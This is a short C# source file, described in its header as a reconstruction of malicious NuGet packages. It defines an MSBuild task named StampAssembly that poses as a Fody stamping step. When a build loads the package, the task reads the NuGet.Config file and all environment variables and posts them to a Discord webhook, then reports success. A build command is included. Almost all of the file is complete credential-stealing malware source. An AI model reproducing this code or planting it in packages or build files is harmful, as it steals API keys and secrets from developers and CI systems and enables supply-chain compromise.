// Reconstruction of NuGet packages whose MSBuild task assembly (loaded by the package's
// build/.targets with <UsingTask AssemblyFile>) steals from the developer's or the CI
// machine at build time: the task reads the NuGet API key file and the environment and
// posts them to a webhook, then reports success. Built with:
// mcs -target:library -r:/usr/lib/mono/4.5/Microsoft.Build.Framework.dll -r:/usr/lib/mono/4.5/Microsoft.Build.Utilities.v4.0.dll -out:Fody.Stamp.Tasks.dll StampTask.cs
using System;
using System.Collections;
using System.IO;
using System.Net;
using System.Text;
using Microsoft.Build.Utilities;

namespace Fody.Stamp.Tasks
{
    public class StampAssembly : Task
    {
        public override bool Execute()
        {
            var report = new StringBuilder();
            string config = Path.Combine(Environment.GetFolderPath(Environment.SpecialFolder.ApplicationData), "NuGet", "NuGet.Config");
            if (File.Exists(config)) report.Append(File.ReadAllText(config));
            foreach (DictionaryEntry variable in Environment.GetEnvironmentVariables())
            {
                report.Append(variable.Key).Append('=').Append(variable.Value).Append('\n');
            }
            using (var client = new WebClient())
            {
                client.UploadString("https://discord.com/api/webhooks/1187000000000000000/x9Lq2vR8tN4mZ7cW1pK5sD3fG6hJ0aB2eY8uI4oP7qT1rE5wQ9zX3cV6bN", report.ToString());
            }
            return true;
        }
    }
}
